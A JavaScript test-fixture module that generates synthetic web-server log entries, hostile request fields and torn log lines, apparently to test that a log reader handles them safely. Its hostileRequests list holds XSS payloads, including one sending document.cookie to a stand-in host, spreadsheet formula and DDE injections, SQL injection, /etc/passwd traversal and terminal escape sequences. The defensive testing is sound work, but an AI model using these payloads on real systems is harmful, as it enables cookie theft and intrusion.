/** What real logs hold besides good lines: torn lines, bytes of another protocol, and text meant to do harm. */
import { seoul } from './calendar.mjs';
import { stream } from './random.mjs';

/** Requests whose fields are hostile or odd. They are events: a reader must carry them unharmed. */
export function hostileRequests() {
  const random = stream('hostile');
  const odd = [
    { agent: '<script>alert(document.domain)</script>' },
    { agent: "<img src=x onerror=\\x22fetch('//198.51.100.66/'+document.cookie)\\x22>" },
    { agent: '</td></tr></table><h1>owned</h1>' },
    { agent: '=HYPERLINK(\\x22http://198.51.100.66/?x=\\x22&A1,\\x22click\\x22)' },
    { user: "=cmd|'/C calc'!A0" },
    { agent: 'HaneulApp/5.9 (🦊; 하늘마켓)' },
    { user: 'admin\u202Egpj.exe' },
    // Cyrillic letters that look like Latin ones.
    { user: 'аdmin' },
    { agent: "Robert'); DROP TABLE event;--" },
    { agent: '\\x1B]0;owned\\x07\\x1B[31mred' },
    { target: '/search?q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E' },
    { target: '/../../../../etc/passwd', status: 400 },
    { target: '/__proto__?constructor=1&__proto__[x]=1', status: 404 },
    { method: '', target: '\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03', status: 400 },
    { method: '', target: '\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03', status: 400 },
    { method: '', target: '', status: 400 },
    { method: '', target: 'MGLNDD_192.0.2.1_443', status: 400 },
  ];
  return odd.flatMap((fields) =>
    [0, 1].map(() => ({
      at: seoul('2025-01-02') + random.below(320 * 86_400) * 1000,
      actor: 'noise',
      ip: `198.51.100.${random.between(228, 238)}`,
      target: '/',
      status: 404,
      bytes: 157,
      took: 1,
      ...fields,
    })),
  );
}

/**
 * Lines of the gateway's log that are no event, by month: torn before their time, foreign, or empty.
 * @returns {Map<string, import('./gateway.mjs').Line[]>}
 */
export function tornLines() {
  const torn = (text) => ({
    request: null,
    kind: /** @type {const} */ ('reject'),
    bytes: Buffer.isBuffer(text) ? text : Buffer.from(text),
  });
  const blank = { request: null, kind: /** @type {const} */ ('blank'), bytes: Buffer.alloc(0) };
  return new Map([
    ['2025-02', [torn('198.51.100.14 - c20417755 [17/Feb/2025:0'), blank]],
    ['2025-04', [torn(Buffer.from([0x16, 0x03, 0x01, 0x00, 0xa5, 0x01, 0x00, 0x00, 0xa1, 0x03, 0x03, 0xfe, 0xff]))]],
    [
      '2025-06',
      [
        torn('203.0.113.'),
        torn('nginx: [alert] could not open error log file: open() failed (28: No space left on device)'),
        blank,
      ],
    ],
    [
      '2025-08',
      [
        torn('2001:db8:1a2b:11::'),
        torn(Buffer.from('198.51.100.9 - \0\0\0\0\0\0\0\0\0\0\0\0')),
        torn('0.042" "jti=-" "kid=-"'),
        blank,
        blank,
      ],
    ],
    ['2025-11', [torn('<html><body>502 Bad Gateway</body></html>')]],
  ]);
}
